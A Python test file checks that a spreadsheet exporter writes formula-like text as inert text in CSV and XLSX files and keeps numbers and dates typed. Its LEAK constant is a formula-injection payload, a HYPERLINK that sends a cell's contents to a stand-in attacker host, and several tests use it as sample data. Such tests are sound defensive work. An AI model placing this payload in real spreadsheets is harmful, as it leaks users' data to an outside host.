"""The spreadsheet writer: text that a spreadsheet could run as a formula is always written
as text; numbers stay numbers and dates stay dates."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chalicelib import spreadsheets
from chalicelib.spreadsheets import Column, Table, csv_value, starts_like_formula

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Ver")'
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]

# What openpyxl can store: no control characters other than tab, newline and carriage return.
cell_text = st.text(
    st.characters(
        blacklist_categories=("Cs",),
        blacklist_characters=[chr(c) for c in range(32) if chr(c) not in "\t\n\r"],
    ),
    max_size=40,
)
formula_like = st.builds(lambda start, rest: start + rest, st.sampled_from(TRIGGERS), cell_text)
numbers = st.one_of(
    st.integers(-(10**12), 10**12),
    st.decimals(min_value=-(10**9), max_value=10**9, places=2, allow_nan=False),
)


def reopen(table: Table) -> Any:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(table))).active
    assert sheet is not None
    return sheet


def parse_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@given(cell_text)
def test_csv_text_is_quoted_exactly_when_it_starts_like_a_formula(text: str) -> None:
    written = csv_value(text)
    assert written == (f"'{text}" if text[:1] in TRIGGERS else text)
    assert not starts_like_formula(written)


@given(numbers)
def test_numbers_are_never_changed_negative_ones_included(number: int | Decimal) -> None:
    assert csv_value(number) is number


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (LEAK, f"'{LEAK}"),
        ("=", "'="),
        ("+52 33 1234 5678", "'+52 33 1234 5678"),
        ("-", "'-"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("", ""),
        (" =1+1", " =1+1"),  # not in the list: LibreOffice reads it as text
        ("Providencia", "Providencia"),
        ("a=b", "a=b"),
        ("'=1+1", "'=1+1"),
        (-5, -5),
        (Decimal("-0.01"), Decimal("-0.01")),
        (date(2026, 11, 16), "2026-11-16"),
        (None, None),
    ],
)
def test_csv_boundary_values(value: Any, expected: Any) -> None:
    assert csv_value(value) == expected


@settings(max_examples=40, deadline=None)
@given(st.lists(st.one_of(cell_text, formula_like), min_size=1, max_size=5), numbers)
def test_any_text_reads_back_from_the_csv_as_quoted_text(texts: list[str], number: Any) -> None:
    table = Table("t", [Column(f"c{i}", 10) for i in range(len(texts) + 1)], [[*texts, number]])
    header, row = parse_csv(spreadsheets.csv_bytes(table))
    assert header == [f"c{i}" for i in range(len(texts) + 1)]
    assert row[:-1] == [f"'{text}" if text[:1] in TRIGGERS else text for text in texts]
    assert row[-1] == str(number)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.one_of(cell_text, formula_like), min_size=1, max_size=5))
def test_any_text_reads_back_from_the_workbook_as_the_same_string(texts: list[str]) -> None:
    sheet = reopen(Table("t", [Column(f"c{i}", 10) for i in range(len(texts))], [texts]))
    cells = list(sheet[2])[: len(texts)]
    for cell, text in zip(cells, texts, strict=True):
        if text == "":
            continue  # an empty string cell reads back as an empty cell
        assert (cell.data_type, cell.value) == ("s", text)
        assert cell.quotePrefix == starts_like_formula(text)


def test_the_workbook_keeps_numbers_dates_and_formats_and_holds_no_formula() -> None:
    table = Table(
        title="un título de hoja más largo que treinta y un caracteres",
        preamble=[["Reporte"], []],
        columns=[
            Column("Lugar", 20),
            Column("Fecha", 12, "dd-mm-yyyy"),
            Column("Monto", 14, '"$"#,##0.00'),
            Column("Estado", 12),
        ],
        rows=[
            [LEAK, date(2026, 11, 16), Decimal("-10.50"), "#N/A"],
            ["-1+1", date(2026, 11, 17), 7, "pagada"],
        ],
        totals=["Total", "", Decimal("-3.50"), ""],
        freeze_header=True,
    )
    sheet = reopen(table)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type in ("f", "e")] == []
    assert sheet.title == "un título de hoja más largo que"
    assert sheet["A1"].value == "Reporte"
    assert sheet["A2"].value is None
    assert [c.value for c in sheet[3]] == ["Lugar", "Fecha", "Monto", "Estado"]
    assert all(c.font.bold for c in sheet[3])
    assert (sheet["A4"].value, sheet["A4"].data_type) == (LEAK, "s")
    assert (sheet["D4"].value, sheet["D4"].data_type) == ("#N/A", "s")
    assert sheet["B4"].is_date
    assert sheet["B4"].number_format == "dd-mm-yyyy"
    assert (sheet["C4"].value, sheet["C4"].data_type) == (Decimal("-10.5"), "n")
    assert (sheet["C5"].value, sheet["C5"].data_type) == (7, "n")
    assert sheet["C6"].number_format == '"$"#,##0.00'
    assert all(c.font.bold for c in sheet[6])
    assert not sheet["A4"].font.bold
    assert sheet.column_dimensions["A"].width == 20
    assert sheet.freeze_panes == "A4"


def test_the_csv_has_header_rows_and_totals_but_no_preamble() -> None:
    table = Table(
        title="t",
        preamble=[["Reporte"]],
        columns=[Column("Lugar", 20), Column("Fecha", 12), Column("Monto", 14)],
        rows=[[LEAK, date(2026, 11, 16), -5]],
        totals=["Total", "", -5],
    )
    assert parse_csv(spreadsheets.csv_bytes(table)) == [
        ["Lugar", "Fecha", "Monto"],
        [f"'{LEAK}", "2026-11-16", "-5"],
        ["Total", "", "-5"],
    ]


def test_openpyxl_is_loaded_only_when_a_workbook_is_built() -> None:
    code = (
        "import sys; import chalicelib.spreadsheets, chalicelib.settlement.exports, "
        "chalicelib.providers.excel; print('openpyxl' in sys.modules)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    )
    assert result.stdout.strip() == "False"


def test_a_text_column_is_text_down_the_whole_column_rows_typed_later_included() -> None:
    sheet = reopen(
        Table(
            title="Plantilla",
            columns=[Column("certificado", 12, text=True), Column("nombre", 20)],
            rows=[["0001", "ANA"]],
        )
    )
    assert sheet["A2"].value == "0001"
    assert sheet["A2"].number_format == "@"
    assert sheet.column_dimensions["A"].number_format == "@"
    assert sheet["B2"].number_format == "General"
    assert sheet.column_dimensions["B"].number_format == "General"
